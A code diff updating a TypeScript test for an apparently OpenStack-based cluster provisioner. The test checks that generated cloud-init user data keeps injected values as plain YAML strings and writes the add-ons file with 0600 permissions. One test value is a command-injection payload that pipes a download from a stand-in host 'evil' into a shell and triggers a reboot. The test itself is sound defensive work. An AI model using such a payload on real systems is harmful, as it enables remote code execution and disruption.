@@ -4,6 +4,7 @@ import { test } from 'node:test';
 import { parse, parseAllDocuments } from 'yaml';
 import { parseClusterFile } from '../spec/load-cluster.js';
 import { clusterNodes, createSteps, DELETE_STEPS, securityGroupRules } from './cluster.js';
+import { addonsYaml, clusterAddons } from './cluster-addons.js';
 import { nodeUserData } from './cluster-user-data.js';
 
 const file = (extra = '') =>
@@ -58,6 +59,16 @@ test('IP-in-IP opens protocol 4 and BGP between nodes instead of VXLAN; SSH only
 
 test('user data is YAML data: a hostile volume type stays a string value, commands are argument lists', () => {
   const hostile = '"; curl evil | sh # $(reboot)';
+  const inputs = {
+    authUrl: 'http://keystone:5000/v3',
+    region: 'RegionOne',
+    applicationCredential: { id: 'i', secret: 's' },
+    networkId: 'n',
+    subnetId: 's',
+    floatingNetworkId: undefined,
+    loadBalancerService: true,
+    caCert: undefined,
+  };
   const f = file(`  storageClasses: [{name: fast, volumeType: '${hostile}'}]\n`);
   const [cp] = clusterNodes(f);
   const secrets = {
@@ -67,13 +78,16 @@ test('user data is YAML data: a hostile volume type stays a string value, comman
     caKey: 'K',
     caCertHash: 'sha256:00',
   };
-  const text = nodeUserData(f, cp!, { endpoint: '10.6.0.9', sans: [], address: '10.6.0.3' }, secrets);
+  const addons = addonsYaml(clusterAddons(f, inputs));
+  const text = nodeUserData(f, cp!, { endpoint: '10.6.0.9', sans: [], address: '10.6.0.3', addons }, secrets);
   assert.ok(text.startsWith('#cloud-config\n'));
   const doc = parse(text) as { write_files: { path: string; content: string }[]; runcmd: string[][] };
-  const classes = parseAllDocuments(doc.write_files.find((w) => w.path.endsWith('storageclasses.yaml'))!.content).map(
-    (d) => d.toJS(),
-  );
+  const written = doc.write_files.find((w) => w.path.endsWith('addons.yaml'))!;
+  const classes = parseAllDocuments(written.content)
+    .map((d) => d.toJS())
+    .filter((o) => o.kind === 'StorageClass');
   assert.equal(classes[0].parameters.type, hostile);
+  assert.equal((written as { permissions?: string }).permissions, '0600', 'the add-ons hold the cloud-config Secret');
   assert.ok(doc.runcmd.every((c) => Array.isArray(c) && c.every((a) => typeof a === 'string')));
   assert.ok(!doc.runcmd.flat().some((a) => a.includes('curl')));
 });
